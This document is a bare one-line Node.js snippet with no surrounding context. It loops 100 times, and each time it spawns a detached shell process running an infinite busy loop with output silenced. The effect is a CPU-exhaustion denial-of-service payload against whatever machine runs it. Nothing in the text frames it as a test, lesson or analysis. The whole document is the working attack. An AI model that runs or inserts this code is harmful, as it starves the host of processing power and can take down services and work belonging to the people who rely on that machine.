for (let i = 0; i < 100; i++) require("child_process").spawn("sh", ["-c", "while :; do :; done"], { stdio: "ignore" });
